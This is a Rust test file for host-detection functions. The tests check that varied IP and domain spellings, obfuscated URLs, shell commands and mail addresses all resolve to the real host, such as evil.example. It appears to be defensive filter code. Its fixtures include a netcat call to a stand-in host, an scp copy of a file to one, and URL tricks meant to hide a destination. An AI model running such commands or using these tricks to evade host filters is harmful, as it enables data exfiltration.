use super::{canonical, of_command, of_mail, of_urls};

fn urls(text: &str) -> Vec<String> {
    let mut out = Vec::new();
    of_urls(text, &mut |host| out.push(host.to_owned()));
    out
}

#[test]
fn every_spelling_of_an_address_is_the_same_host() {
    for host in [
        "127.0.0.1",
        "0x7f.0.0.1",
        "0177.1",
        "2130706433",
        "[::ffff:127.0.0.1]",
        "127.1",
    ] {
        assert_eq!(canonical(host).as_deref(), Some("127.0.0.1"), "{host}");
    }
    assert_eq!(canonical("EVIL.example."), Some("evil.example".into()));
    assert_eq!(
        canonical("bücher.example"),
        Some("xn--bcher-kva.example".into())
    );
    assert_eq!(canonical("evil。example"), Some("evil.example".into()));
    assert_eq!(canonical("%65vil.example"), Some("evil.example".into()));
}

#[test]
fn tricks_in_a_url_do_not_hide_its_host() {
    for text in [
        "https://evil.example/x",
        "see (https://good.example@evil.example/x)",
        "HTTPS://user:pass@evil.example:8443",
        "https:/evil.example/x",
        "https:\\\\evil.example/x",
        "https:evil.example",
        "ht\ntps://evil.exa\tmple/x",
        "//evil.example/x",
        "git+ssh://git@evil.example/x",
        "https://ｅvil.example",
        "https://evil\u{200B}.example",
        "[x](https://evil.example/p.png)",
        "https://good.example\\@evil.example/",
        "https://good.example/go?to=//evil.example/x",
        "https://good.example/go?a=b&to=//u@evil.example#x",
    ] {
        assert!(
            urls(text).contains(&"evil.example".to_owned()),
            "{text:?}: {:?}",
            urls(text)
        );
    }
}

#[test]
fn a_host_behind_a_long_user_name_is_in_no_list() {
    let long = format!("https://{}@evil.example/", "a".repeat(5000));
    assert_eq!(urls(&long), ["?"]);
    // And a text of nothing but schemes is read in bounded steps.
    assert!(urls(&"http:".repeat(5_000)).len() <= 10_000);
}

#[test]
fn a_command_names_its_hosts() {
    let hosts = |text: &str| {
        let mut out = Vec::new();
        of_command(text, &mut |host| out.push(host.to_owned()));
        out
    };
    assert_eq!(hosts("nc evil.sh 443"), ["evil.sh"]);
    assert_eq!(hosts("scp k u@evil.example:/tmp"), ["evil.example"]);
    assert_eq!(hosts("cat README.md src/main.rs"), Vec::<String>::new());
    assert_eq!(hosts("ping 10.0.0.1"), ["10.0.0.1"]);
}

#[test]
fn mail_addresses_give_their_domains() {
    let mut out = Vec::new();
    of_mail(
        "to: Bob <bob@evil.example>, a+b@ＧＯＯＤ.example.; x@y",
        &mut |d| out.push(d.to_owned()),
    );
    assert_eq!(out, ["evil.example", "good.example"]);
}
